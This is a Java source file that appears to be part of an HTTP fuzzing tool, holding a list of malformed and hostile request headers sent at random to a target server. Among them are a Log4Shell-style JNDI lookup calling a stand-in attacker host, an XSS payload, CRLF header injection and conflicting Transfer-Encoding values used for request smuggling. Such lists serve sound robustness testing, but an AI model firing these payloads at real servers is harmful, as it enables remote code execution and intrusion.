package hitilafu.app.hostile;

import java.util.List;
import java.util.Random;

/** Headers that no browser sends. */
final class Headers {
  private static final List<String> ABSURD =
      List.of(
          "Host: evil.example",
          "Host:",
          "Accept: " + "text/html;q=0.1,".repeat(200),
          "Accept: ;;;q=,,",
          "Accept-Encoding: ,,;q=\u0007",
          "Accept-Language: " + "x-".repeat(500),
          "If-None-Match: " + "\"a\",".repeat(500),
          "If-None-Match: W/",
          "If-Modified-Since: yesterday",
          "Range: bytes=0-99999999999999999999",
          "Range: bytes=" + "0-1,".repeat(300) + "0-1",
          "Cookie: " + "a=b;".repeat(1_000),
          "Authorization: Basic ====",
          "Authorization: Bearer " + "x".repeat(4_000),
          "Authorization: \u00ff\u00fe",
          "Content-Length: -1",
          "Content-Length: 99999999999999999999",
          "Content-Encoding: gzip",
          "Transfer-Encoding: chunked",
          "Transfer-Encoding: identity, chunked, gzip",
          "Expect: 100-continue",
          "Expect: 200-maybe",
          "Connection: upgrade\r\nUpgrade: websocket",
          "Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__",
          "X-Forwarded-For: <script>alert(1)</script>",
          "Origin: null\r\nAccess-Control-Request-Method: DELETE",
          "User-Agent: ${jndi:ldap://evil.example/a}",
          "X-Null: a\u0000b",
          "X : space before the colon",
          " folded",
          "NoColon");

  private Headers() {}

  static Attack next(Random random, String target) {
    return random.nextInt(8) == 0
        ? Attack.of("many headers", "GET", target, "X-A: b\r\n".repeat(600) + "X-A: b")
        : Attack.of("absurd header", "GET", target, Texts.any(ABSURD, random));
  }
}
